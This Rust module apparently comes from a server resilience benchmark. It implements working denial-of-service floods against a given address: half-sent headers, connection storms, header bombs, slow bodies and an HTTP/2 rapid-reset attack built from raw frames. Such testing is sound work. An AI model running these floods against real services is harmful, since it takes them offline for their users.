//! Peers that behave badly beside one that behaves, at a rate that leaves the processor of the load time for both. In: an
//! address. Out: an attack that goes on until it is dropped. What it gets for an answer is not looked at.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Interval, MissedTickBehavior, interval, sleep},
};

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// 512 connections that stop within their header lines.
    HalfHeads,
    /// 200 connections a second, closed at once.
    Connections,
    /// 50 heads of 64 KiB a second.
    HeaderBombs,
    /// 200 bodies of which a byte comes every 100 ms, not all in the same moment.
    SlowBodies,
    /// 1,000 streams of HTTP/2 a second, reset at once.
    Resets,
}

/// An attack that goes on.
pub struct Underway {
    _tasks: JoinSet<()>,
}

impl Attack {
    /// Its name in tables.
    pub const fn name(self) -> &'static str {
        match self {
            Self::HalfHeads => "512 half heads",
            Self::Connections => "200 connections a second",
            Self::HeaderBombs => "50 header bombs a second",
            Self::SlowBodies => "200 slow bodies",
            Self::Resets => "1,000 resets a second",
        }
    }

    /// Begins it; it is in full swing a moment later.
    pub fn begin(self, address: SocketAddr) -> Underway {
        let mut tasks = JoinSet::new();
        match self {
            Self::HalfHeads => (0..512).for_each(|_| drop(tasks.spawn(half_head(address)))),
            Self::SlowBodies => (0..200).for_each(|number| drop(tasks.spawn(slow_body(address, number)))),
            Self::Connections => drop(tasks.spawn(connections(address))),
            Self::HeaderBombs => drop(tasks.spawn(header_bombs(address))),
            Self::Resets => drop(tasks.spawn(resets(address))),
        }
        Underway { _tasks: tasks }
    }
}

const HEAD: &[u8] = b"POST /v2/models/bench/infer HTTP/1.1\r\nhost: a\r\n";

/// A connection that has said its first words; tried until there is one.
async fn opened(address: SocketAddr, words: &[u8]) -> TcpStream {
    const PAUSE: Duration = Duration::from_millis(100);
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await
            && stream.write_all(words).await.is_ok()
        {
            return stream;
        }
        sleep(PAUSE).await;
    }
}

async fn half_head(address: SocketAddr) {
    loop {
        let _ = opened(address, HEAD).await.read(&mut [0; 1]).await;
    }
}

async fn slow_body(address: SocketAddr, number: u64) {
    sleep(Duration::from_micros(500 * number)).await;
    let words = [HEAD, b"content-length: 100000\r\n\r\n"].concat();
    loop {
        let mut stream = opened(address, &words).await;
        while stream.write_all(b"x").await.is_ok() {
            sleep(Duration::from_millis(100)).await;
        }
    }
}

async fn connections(address: SocketAddr) {
    let mut ticks = every(Duration::from_millis(5));
    loop {
        ticks.tick().await;
        let _ = TcpStream::connect(address).await;
    }
}

async fn header_bombs(address: SocketAddr) {
    let mut bomb = HEAD.to_vec();
    (0..1024).for_each(|number| bomb.extend(format!("x-{number:04}: {}\r\n", "b".repeat(54)).bytes()));
    let mut ticks = every(Duration::from_millis(20));
    loop {
        ticks.tick().await;
        if let Ok(mut stream) = TcpStream::connect(address).await {
            let _ = stream.write_all(&bomb).await;
        }
    }
}

fn every(time: Duration) -> Interval {
    let mut ticks = interval(time);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    ticks
}

/// RFC 9113: the preface, SETTINGS, and then HEADERS with RST_STREAM behind each, ten times in 10 ms.
async fn resets(address: SocketAddr) {
    const AT_ONCE: u32 = 10;
    const CANCEL: u32 = 8;
    let start = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &[])].concat();
    // RFC 7541, indexed: GET, http, /; literal: the authority.
    let head = [0x82, 0x86, 0x84, 0x01, 0x01, b'a'];
    let mut heard = vec![0; 16 << 10];
    loop {
        let mut stream = opened(address, &start).await;
        let mut ticks = every(Duration::from_millis(10));
        for first in (1..u32::MAX / 4).step_by(2 * AT_ONCE as usize) {
            ticks.tick().await;
            let streams = (first..).step_by(2).take(AT_ONCE as usize);
            let reset = |id| [frame(1, 5, id, &head), frame(3, 0, id, &CANCEL.to_be_bytes())].concat();
            // Whoever does not read is soon not read either.
            let _ = stream.try_read(&mut heard);
            if stream.write_all(&streams.flat_map(reset).collect::<Vec<u8>>()).await.is_err() {
                break;
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
